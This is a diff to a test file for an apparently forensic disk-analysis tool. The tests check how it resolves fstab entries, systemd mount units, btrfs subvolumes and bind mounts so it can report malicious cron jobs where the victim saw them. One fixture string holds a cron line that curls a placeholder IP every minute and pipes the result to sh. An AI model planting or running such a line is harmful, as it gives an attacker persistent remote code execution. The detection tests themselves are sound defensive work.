@@ -2,6 +2,7 @@
 """Roots below the top, well-known directories that are links, and where the victim mounted its file systems."""
 
 import io
+import json
 from pathlib import Path
 
 import pytest
@@ -22,15 +23,18 @@ from clean_room_analysis.walker import Walker
 JOB = "* * * * * root curl http://192.0.2.1/x | sh\n"
 
 
-def paths_found(plain: TreeMaker, scratch: Path, prefix: str = "") -> set[str]:
+def paths_found(
+    plain: TreeMaker, scratch: Path, prefix: str = "", shown: list[tuple[str, str]] | None = None, field: str = "path"
+) -> set[str]:
     """Paths of the findings of the cron check, as a run makes them."""
     out = io.StringIO()
     timeline = Timeline(str(scratch))
     ledger = Ledger(out, timeline)
     tree = MountedTree(str(plain.root), prefix)
-    Walker(ledger, timeline, io.StringIO(), Deadline(60), [Cron()], [], str(scratch)).read(tree, VOLUME, FileSystemReport("ext4", None, 0))
+    walker = Walker(ledger, timeline, io.StringIO(), Deadline(60), [Cron()], [], str(scratch))
+    walker.read(tree, VOLUME, FileSystemReport("ext4", None, 0), shown_elsewhere=lambda: shown or [])
     tree.close()
-    return {line.split('"path":"')[1].split('"')[0] for line in out.getvalue().splitlines()}
+    return {json.loads(line)[field] for line in out.getvalue().splitlines()}
 
 
 @pytest.mark.parametrize(
@@ -83,6 +87,8 @@ PART = Partition(2, 1024, 1024, "x", "33333333-3333-4333-8333-333333333333", "Va
         "/dev/disk/by-label/logs",
         "PARTUUID=33333333-3333-4333-8333-333333333333",
         r"PARTLABEL=Var\040Disk",
+        r"/dev/disk/by-partlabel/Var\x20Disk",
+        "/dev/disk/by-id/nvme-Amazon_Elastic_Block_Store_vol00000000000000001-part2",
         "/dev/xvdf2",
         "/dev/sdf2",
     ],
@@ -93,11 +99,47 @@ def test_fstab_in_every_spelling(source: str, plain: TreeMaker) -> None:
     tree = MountedTree(str(plain.root))
     points.learn(tree)
     tree.close()
-    assert points.of(Region(1024, 1024, "ext4", "logs", UUID.lower(), partition=PART), "/dev/sdf") == "/var/log"
+    assert points.of(Region(1024, 1024, "ext4", "logs", UUID.lower(), partition=PART), "/dev/sdf", VOLUME) == "/var/log"
     assert points.of(Region(0, 1, "ext4", "other", "0"), "/dev/sdg") is None
 
 
-@pytest.mark.parametrize("source", ["/dev/nvme1n1", "/dev/xvdf"])
+def test_a_mount_unit_says_it_as_fstab_does(plain: TreeMaker) -> None:
+    plain.file("/etc/systemd/system/var-log.mount", "[Mount]\nWhat=/dev/disk/by-label/logs\nWhere=/var/log\nType=xfs\n")
+    points = MountPoints()
+    tree = MountedTree(str(plain.root))
+    points.learn(tree)
+    tree.close()
+    assert points.of(Region(0, 1, "xfs", "logs")) == "/var/log"
+
+
+@pytest.mark.parametrize(
+    ("fstab", "label", "prefix", "place"),
+    [
+        ("LABEL=data /data btrfs x\nLABEL=data /var btrfs subvol=/jobs 0 0\n", "data", "/data", "/jobs/spool/cron/root"),
+        ("LABEL=data /data ext4 x\n/data/jobs /var none bind 0 0\n", "data", "/data", "/jobs/spool/cron/root"),
+        ("/srv/jobs /var none rw,rbind 0 0\n", "root", "", "/srv/jobs/spool/cron/root"),
+    ],
+)
+def test_subvolumes_and_bind_mounts_are_looked_at_where_the_victim_saw_them(
+    fstab: str, label: str, prefix: str, place: str, plain: TreeMaker, tmp_path: Path
+) -> None:
+    plain.file("/etc/fstab", fstab)
+    plain.file(place, JOB.replace("root ", ""))
+    points = MountPoints()
+    tree = MountedTree(str(plain.root))
+    points.learn(tree)
+    tree.close()
+    shown = points.shown_elsewhere(Region(0, 1, "ext4", label), prefix, None, "vol-1")
+    assert paths_found(plain, tmp_path, prefix) == set()
+    assert paths_found(plain, tmp_path, prefix, shown) == {place}
+
+
+def test_a_finding_says_where_the_victim_saw_it(plain: TreeMaker, tmp_path: Path) -> None:
+    plain.file("/spool/cron/root", JOB.replace("root ", ""))
+    assert paths_found(plain, tmp_path, "/var", field="victimPath") == {"/var/spool/cron/root"}
+
+
+@pytest.mark.parametrize("source", ["/dev/nvme1n1", "/dev/xvdf", "/dev/disk/by-path/pci-0000:00:1f.0-nvme-1"])
 def test_the_one_volume_that_is_left_is_the_one_fstab_names(source: str, plain: TreeMaker) -> None:
     plain.file("/etc/fstab", f"{source} /data ext4\n")
     points = MountPoints()
@@ -113,6 +155,7 @@ def test_the_one_volume_that_is_left_is_the_one_fstab_names(source: str, plain: 
         ("/log/messages", "/var"),
         ("/ec2-user/.bashrc", "/home"),
         ("/wtmp", "/var/log"),
+        ("/spool/cron/root", "/var"),
         ("/html/index.php", "/var/www"),
         ("/EFI/x", "/boot/efi"),
     ],
